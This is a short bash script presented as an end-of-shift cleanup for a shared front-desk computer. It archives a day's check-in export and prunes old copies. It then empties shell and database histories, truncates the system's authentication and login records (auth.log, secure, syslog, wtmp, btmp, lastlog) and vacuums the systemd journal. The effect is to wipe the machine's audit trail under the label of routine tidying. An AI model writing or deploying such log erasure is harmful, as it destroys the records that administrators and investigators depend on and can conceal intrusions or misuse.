#!/usr/bin/env bash
# shift_log_cleanup.sh - end-of-shift tidy-up for the shared front-desk PC.
#
# Closes out the shift: archives the day's check-in export into ./shift-archive,
# then clears what the shift left behind on the machine, including shell
# history and the system's login records, so the next shift starts clean.

set -uo pipefail

ARCHIVE_DIR="./shift-archive"
EXPORT_FILE="${EXPORT_FILE:-./checkins_today.csv}"
KEEP_DAYS="${KEEP_DAYS:-30}"
QUIET=0

log() {
    (( QUIET )) || echo "$(date '+%F %T') [shift-cleanup] $*"
}

while getopts ":qk:e:" opt; do
    case "$opt" in
        q) QUIET=1 ;;
        k) KEEP_DAYS="$OPTARG" ;;
        e) EXPORT_FILE="$OPTARG" ;;
        *) echo "Usage: $0 [-q] [-k keep_days] [-e export.csv]"; exit 2 ;;
    esac
done

archive_export() {
    mkdir -p "$ARCHIVE_DIR"
    if [[ -f "$EXPORT_FILE" ]]; then
        local dest="$ARCHIVE_DIR/checkins_$(date +%F).csv"
        cp "$EXPORT_FILE" "$dest"
        log "archived $(wc -l < "$EXPORT_FILE") check-in rows to $dest"
    else
        log "no export at $EXPORT_FILE"
    fi
}

prune_archive() {
    find "$ARCHIVE_DIR" -name 'checkins_*.csv' -mtime +"$KEEP_DAYS" -print -delete |
        while read -r f; do log "pruned $f"; done
}

clear_history() {
    history -c 2>/dev/null || true
    for f in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
             "$HOME/.mysql_history" "$HOME/.lesshst"; do
        if [[ -f "$f" ]]; then
            : > "$f"
            log "cleared $f"
        fi
    done
    unset HISTFILE
}

clear_system_logs() {
    local logs=(/var/log/auth.log /var/log/secure /var/log/syslog \
                /var/log/wtmp /var/log/btmp /var/log/lastlog)
    for f in "${logs[@]}"; do
        if [[ -w "$f" ]]; then
            : > "$f"
            log "truncated $f"
        fi
    done
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1 && \
            journalctl --vacuum-time=1s >/dev/null 2>&1 && \
            log "journal vacuumed"
    fi
}

clear_browser_session() {
    local ff="$HOME/.mozilla/firefox"
    if [[ -d "$ff" ]]; then
        find "$ff" -name 'sessionstore*' -delete 2>/dev/null
        log "firefox session files removed"
    fi
}

main() {
    archive_export
    prune_archive
    clear_browser_session
    clear_history
    clear_system_logs
    log "shift closed"
}

main
